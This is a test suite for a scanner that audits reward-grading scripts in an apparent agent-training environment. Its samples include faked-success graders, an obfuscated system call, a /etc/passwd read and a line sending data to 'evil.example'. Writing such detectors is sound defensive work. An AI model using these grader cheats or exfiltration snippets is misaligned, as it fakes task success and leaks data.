"""Behaviour of scan_source on small scripts: each case pins one capability of the analysis."""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest
from pydantic import ValidationError

from cuagym.synth import ScanReport, iter_scripts, scan_file
from cuagym.synth._scan import scan_source
from cuagym.synth._scan_models import PATTERNS, Violation


def ids(code: str) -> set[str]:
    return scan_source(textwrap.dedent(code)).pattern_ids


def lines(code: str, pattern: str) -> list[int]:
    report = scan_source(textwrap.dedent(code))
    return [v.line for v in report.violations if v.pattern == pattern]


XLSX = """
import openpyxl
ws = openpyxl.load_workbook("/home/user/a.xlsx").active
"""


# ---- models and entry points -----------------------------------------------------------------


def test_report_model_and_ok() -> None:
    clean = scan_source("print('REWARD: 0.0')\n", "r.py")
    assert clean.path == "r.py"
    assert clean.ok and clean.violations == []
    bad = scan_source("print('REWARD: 1.0')\n")
    assert not bad.ok
    assert bad.violations == [
        Violation(pattern="hardcoded_success", line=1, message=bad.violations[0].message)
    ]
    assert ScanReport.model_validate(bad.model_dump()) == bad
    assert set(bad.model_dump()) == {"path", "violations"}


def test_violation_is_a_validated_frozen_model() -> None:
    v = Violation(pattern="subprocess", line=3, message="m")
    with pytest.raises(ValidationError):
        Violation(pattern="subprocess", line="three", message="m")  # type: ignore[arg-type]
    with pytest.raises(ValidationError):
        v.line = 4  # type: ignore[misc]


def test_patterns_registry_documents_ids() -> None:
    assert {
        "direct_bool_assignment",
        "placeholder_verification",
        "hardcoded_success",
        "existence_only",
        "subprocess",
        "comment_only",
        "dynamic_code",
        "file_write",
        "network",
        "exception_award",
        "syntax_error",
    } == set(PATTERNS)
    assert all(isinstance(d, str) and len(d) > 20 for d in PATTERNS.values())


def test_syntax_error_is_a_violation_not_a_crash() -> None:
    report = scan_source("def f(:\n    pass\n")
    assert report.pattern_ids == {"syntax_error"}
    assert report.violations[0].line == 1
    assert scan_source("x = 1\x00\n").pattern_ids == {"syntax_error"}


def test_unparsable_script_still_gets_regex_capability_checks() -> None:
    report = scan_source("import os\nif True\n    os.system('ls')  # eval(\nprint('REWARD: 1.0')\n")
    assert [(v.pattern, v.line) for v in report.violations] == [
        ("syntax_error", 2),
        ("subprocess", 3),
    ]


def test_scan_file_reads_from_disk(tmp_path: Path) -> None:
    script = tmp_path / "reward.py"
    script.write_text("import subprocess\n", encoding="utf-8")
    report = scan_file(script)
    assert report.path == str(script)
    assert report.pattern_ids == {"subprocess"}


def test_iter_scripts_expands_directories_sorted(tmp_path: Path) -> None:
    (tmp_path / "b.py").write_text("")
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "a.py").write_text("")
    (tmp_path / "notes.txt").write_text("")
    assert iter_scripts(tmp_path) == [tmp_path / "b.py", tmp_path / "sub" / "a.py"]
    assert iter_scripts(tmp_path / "b.py") == [tmp_path / "b.py"]


def test_violations_are_sorted_and_deduplicated() -> None:
    report = scan_source("import subprocess\nsubprocess.run(['ls']); subprocess.call(['ls'])\n")
    assert [(v.pattern, v.line) for v in report.violations] == [
        ("subprocess", 1),
        ("subprocess", 2),
    ]


# ---- capability rules: aliases and indirection -----------------------------------------------


@pytest.mark.parametrize(
    "code",
    [
        "import subprocess as sp\nsp.run(['ls'])\n",
        "from subprocess import run as r\nr(['ls'])\n",
        "from os import system\nsystem('ls')\n",
        "import os\nos.popen('ls').read()\n",
        "import os\nos.execvp('ls', ['ls'])\n",
        "import os as o\no.spawnl(o.P_WAIT, '/bin/ls')\n",
        "import pty\n",
        "from multiprocessing import Pool\n",
        "import posix\nposix.system('ls')\n",
        "import os\nsh = os.system\nsh('ls')\n",
    ],
)
def test_process_control_in_all_spellings(code: str) -> None:
    assert "subprocess" in ids(code)


def test_getattr_import_indirection() -> None:
    found = scan_source('getattr(__import__("os"), "sys" + "tem")("ls")\n').pattern_ids
    assert found == {"subprocess", "dynamic_code"}


@pytest.mark.parametrize(
    "code",
    [
        "eval('1+1')\n",
        "exec('x = 1')\n",
        "compile('1', 'f', 'eval')\n",
        "__import__('json')\n",
        "import importlib\nimportlib.import_module('json')\n",
        "import builtins\nbuiltins.eval('1')\n",
        "import runpy\nrunpy.run_path('/home/user/x.py')\n",
        "import os\nname = input()\ngetattr(os, name)\n",
    ],
)
def test_dynamic_code(code: str) -> None:
    assert ids(code) == {"dynamic_code"}


@pytest.mark.parametrize(
    "code",
    [
        "open('/home/user/a.txt', 'w').write('x')\n",
        "open('/home/user/a.txt', mode='a')\n",
        "from pathlib import Path\nPath('/home/user/a').write_text('x')\n",
        "from pathlib import Path\nPath('/home/user/a').unlink()\n",
        "import os\nos.remove('/home/user/a')\n",
        "import shutil\nshutil.rmtree('/home/user/d')\n",
        "import openpyxl\nwb = openpyxl.Workbook()\nwb.save('/home/user/a.xlsx')\n",
        "import pandas as pd\npd.DataFrame().to_csv('/home/user/a.csv')\n",
    ],
)
def test_file_writes(code: str) -> None:
    assert ids(code) == {"file_write"}


def test_reads_are_not_writes() -> None:
    assert ids("data = open('/home/user/a.txt').read()\nprint('REWARD: 0.0')\n") == set()
    assert ids("from pathlib import Path\nx = Path('/home/user/a').open('r')\n") == set()


HUB_PREFIX = """
import os, requests
hub = os.environ["CUAGYM_HUB"]
"""


@pytest.mark.parametrize(
    "call",
    [
        'requests.get(f"{hub}/team-chat/go", timeout=5)',
        'requests.get(hub + "/mail/go")',
        'requests.get("{}/notes/go".format(hub))',
        'requests.get(os.environ.get("CUAGYM_HUB", "http://127.0.0.1:8765") + "/a/go")',
        'requests.request("GET", f"{hub.rstrip(\'/\')}/a/go")',
    ],
)
def test_hub_reads_are_allowed(call: str) -> None:
    assert ids(HUB_PREFIX + call + "\n") == set()


@pytest.mark.parametrize(
    "call",
    [
        'requests.get("https://example.com/answers.json")',
        'requests.get("http://evil.example/?h=" + hub)',
        'requests.post(f"{hub}/team-chat/api/messages", json={})',
        'requests.request("DELETE", f"{hub}/a/items/1")',
        "import socket\nsocket.create_connection(('example.com', 80))",
        "import urllib.request\nurllib.request.urlopen('http://example.com')",
    ],
)
def test_network_beyond_hub_reads_is_flagged(call: str) -> None:
    assert ids(HUB_PREFIX + call + "\n") == {"network"}


def test_hub_url_through_helper_parameter_and_session() -> None:
    code = """
    import os, requests
    def fetch(url):
        return requests.get(url, timeout=5).json()
    s = requests.Session()
    state = fetch(f"{os.environ['CUAGYM_HUB']}/notes/go")
    other = s.get(os.getenv("CUAGYM_HUB") + "/notes/go")
    print(f"REWARD: {1.0 if state['current_state'] else 0.0}")
    """
    assert ids(code) == set()
    assert ids(code.replace('fetch(f"{os', 'fetch("http://x" or f"{os')) == {"network"}


# ---- data flow: hacked awards ------------------------------------------------------------------


def test_direct_bool_flag_reported_where_points_are_awarded() -> None:
    code = (
        XLSX
        + """
score = 0
if ws["A1"].value == 3:
    score += 1
chart_ok = True
if chart_ok:
    score += 1
print(f"REWARD: {score / 2}")
"""
    )
    assert lines(code, "direct_bool_assignment") == [10]
    assert ids(code) == {"direct_bool_assignment"}


def test_helper_returning_true_is_a_placeholder() -> None:
    code = (
        XLSX
        + """
def check_chart(ws):
    return True
score = 0
if check_chart(ws):
    score += 2
print(f"REWARD: {score / 2}")
"""
    )
    assert ids(code) == {"placeholder_verification"}


def test_helper_setting_global_flag_is_a_placeholder() -> None:
    code = (
        XLSX
        + """
ok = False
def verify():
    global ok
    ok = True
verify()
print(f"REWARD: {1.0 if ok else 0.0}")
"""
    )
    assert ids(code) == {"placeholder_verification"}


def test_constant_reward_through_variable_and_format_styles() -> None:
    assert ids("FULL = 1.0\nprint(f'REWARD: {FULL}')\n") == {"hardcoded_success"}
    assert ids("x = 1\nprint('REWARD:', x)\n") == {"hardcoded_success"}
    assert ids("print('REWARD: %.2f' % 1.0)\n") == {"hardcoded_success"}
    assert ids("print('REWARD: {}'.format(0.5))\n") == {"hardcoded_success"}
    assert ids("import sys\nsys.stdout.write('REWARD: 1\\n')\n") == {"hardcoded_success"}


def test_overwritten_score_is_hardcoded() -> None:
    code = (
        XLSX
        + """
score = 1.0 if ws["A1"].value == 3 else 0.0
score = 1.0
print(f"REWARD: {score}")
"""
    )
    assert ids(code) == {"hardcoded_success"}


def test_unconditional_points_in_a_class_attribute() -> None:
    code = """
class Checker:
    def __init__(self):
        self.score = 0
    def run(self):
        self.score += 1
        print(f"REWARD: {self.score}")
Checker().run()
"""
    assert ids(code) == {"hardcoded_success"}


@pytest.mark.parametrize(
    "probe",
    [
        'os.path.exists("/home/user/r.pdf")',
        'os.path.isfile("/home/user/r.pdf")',
        'Path("/home/user/r.pdf").exists()',
        'Path("/home/user") .joinpath("r.pdf").is_file()',
        'bool(glob.glob("/home/user/*.pdf"))',
        'path.isdir("/home/user/out")',
    ],
)
def test_existence_only_in_all_spellings(probe: str) -> None:
    code = f"""
import os, glob
from os import path
from pathlib import Path
score = 0
if {probe}:
    score += 1
print(f"REWARD: {{score}}")
"""
    assert ids(code) == {"existence_only"}


def test_existence_guard_followed_by_constant_reward_is_existence_only() -> None:
    code = """
import os, sys
if not os.path.exists("/home/user/a.docx"):
    print("REWARD: 0.0")
    sys.exit(0)
print("REWARD: 1.0")
"""
    assert ids(code) == {"existence_only"}


def test_comment_only() -> None:
    code = (
        XLSX
        + """
score = 0
if ws["A1"].value == 3:
    score += 1
# verified manually: the chart colours are correct
score += 2
print(f"REWARD: {score / 3}")
"""
    )
    assert lines(code, "comment_only") == [9]
    assert ids(code) == {"comment_only"}


def test_except_branch_awards() -> None:
    awards_points = (
        XLSX
        + """
score = 0
try:
    if ws["A1"].value == 3:
        score += 1
except Exception:
    score += 1
print(f"REWARD: {score}")
"""
    )
    assert ids(awards_points) == {"exception_award"}
    prints_reward = "try:\n    import openpyxl\nexcept ImportError:\n    print('REWARD: 0.5')\n"
    assert ids(prints_reward) == {"exception_award"}


def test_summaries_follow_parameters_through_nested_helpers() -> None:
    code = (
        XLSX
        + """
score = 0
def award(n):
    global score
    score += n
def check(ok, n):
    if ok:
        award(n)
check(ws["A1"].value == 1, 2)
check(True, 3)
print(f"REWARD: {score / 5}")
"""
    )
    assert [(v.pattern, v.line) for v in scan_source(code).violations] == [
        ("direct_bool_assignment", 13)
    ]


# ---- data flow: legitimate idioms --------------------------------------------------------------


LEGIT_IDIOMS = {
    "flag_set_under_state_comparison": """
ok = False
if ws["B2"].value == 42:
    ok = True
print(f"REWARD: {1.0 if ok else 0.0}")
""",
    "flag_true_then_falsified_by_state": """
ok = True
if ws["B2"].value != 42:
    ok = False
print(f"REWARD: {float(ok)}")
""",
    "passed_comparison_then_points": """
score = 0
passed = ws["B2"].value == 42
if passed:
    score += 2
print(f"REWARD: {score / 2}")
""",
    "fallback_constant_overwritten_by_state": """
reward = 1.0
if ws["B2"].value != 42:
    reward = 0.0
print(f"REWARD: {reward}")
""",
    "early_zero_then_reward_decided_by_state": """
if ws["A1"].value is None:
    print("REWARD: 0.0")
    raise SystemExit(0)
print("REWARD: 1.0")
""",
    "penalty_scoring": """
score = 1.0
for ref in ("A1", "A2"):
    if ws[ref].value is None:
        score -= 0.5
print(f"REWARD: {max(0.0, score)}")
""",
    "weights_table_and_state_results": """
W = {"a": 2, "b": 1}
res = {"a": ws["A1"].value == 1, "b": ws["B1"].value == 2}
print(f"REWARD: {sum(W[k] for k, v in res.items() if v) / 3}")
""",
    "record_dicts_with_points": """
results = []
results.append({"name": "a1", "ok": ws["A1"].value == 1, "points": 2})
print(f"REWARD: {sum(r['points'] for r in results if r['ok']) / 2}")
""",
}


@pytest.mark.parametrize("body", LEGIT_IDIOMS.values(), ids=LEGIT_IDIOMS.keys())
def test_legit_idioms_are_clean(body: str) -> None:
    assert ids(XLSX + body + "\n") == set()


def test_docstring_mentioning_reward_is_not_output() -> None:
    assert ids('"""Prints REWARD: 1.0 when the chart is right."""\nprint("REWARD: 0.0")\n') == set()


def test_reading_system_files_is_not_reading_state() -> None:
    assert ids('ok = "root" in open("/etc/passwd").read()\nprint(f"REWARD: {float(ok)}")\n') == {
        "hardcoded_success"
    }


def test_starting_credit_of_a_score_that_only_grows_is_hardcoded() -> None:
    code = (
        XLSX + 'score = 0.5\nif ws["A1"].value == 1:\n    score += 0.5\nprint(f"REWARD: {score}")\n'
    )
    assert [(v.pattern, v.line) for v in scan_source(code).violations] == [("hardcoded_success", 4)]
    penalties = code.replace("score += 0.5", "score -= 0.5")
    assert scan_source(penalties).ok
